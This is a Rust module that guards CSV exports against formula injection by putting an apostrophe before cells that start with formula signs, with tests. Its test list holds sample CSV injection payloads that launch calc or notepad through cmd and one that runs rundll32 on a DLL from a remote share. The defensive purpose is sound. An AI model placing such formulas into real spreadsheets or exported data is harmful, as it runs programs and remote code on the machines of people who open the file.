//! Cells that a spreadsheet would run.
//!
//! A spreadsheet that opens a CSV file takes a cell that begins with one of a few signs for a formula, and a formula
//! may call programs. A leading apostrophe makes it text again; the figures themselves, also negative ones, stay bare.

use std::borrow::Cow;

/// The text as it may stand in a cell without being run.
pub(super) fn inert(text: &str) -> Cow<'_, str> {
    if starts_a_formula(text) && !is_plain_number(text) { format!("'{text}").into() } else { text.into() }
}

/// Full-width signs count too: East Asian spreadsheets take them for the narrow ones.
fn starts_a_formula(text: &str) -> bool {
    // White space in front does not keep every program from looking at what follows.
    let first = |text: &str| text.chars().next();
    first(text).is_some_and(|c| matches!(c, '\t' | '\r' | '\n'))
        || first(text.trim_start()).is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
}

/// A sign, digits, at most one point.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let mut points = 0;
    digits.bytes().any(|byte| byte.is_ascii_digit())
        && digits.bytes().all(|byte| {
            points += usize::from(byte == b'.');
            byte.is_ascii_digit() || byte == b'.'
        })
        && points <= 1
}

#[cfg(test)]
mod tests {
    use super::*;

    /// In the manner of the public lists of CSV injection payloads.
    const PAYLOADS: [&str; 10] = [
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =HYPERLINK(\"http://x\",\"y\")",
        "＝1+1",
    ];

    #[test]
    fn a_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe() {
        for payload in PAYLOADS {
            assert_eq!(inert(payload), format!("'{payload}"), "{payload:?}");
        }
    }

    #[test]
    fn figures_and_ordinary_texts_stay_as_they_are() {
        for text in
            ["", "-12.5", "+3", "0", "1204.00", "CardioView", "*", "카디오뷰", "A-1", "x=y", "2026-10", "'quoted"]
        {
            assert_eq!(inert(text), text);
        }
    }

    #[test]
    fn what_only_looks_like_a_number_at_first_is_text() {
        for text in ["-1-1", "+1.2.3", "-", "-.", "-1e5", "-1,5", "- 5"] {
            assert_eq!(inert(text), format!("'{text}"), "{text}");
        }
    }
}
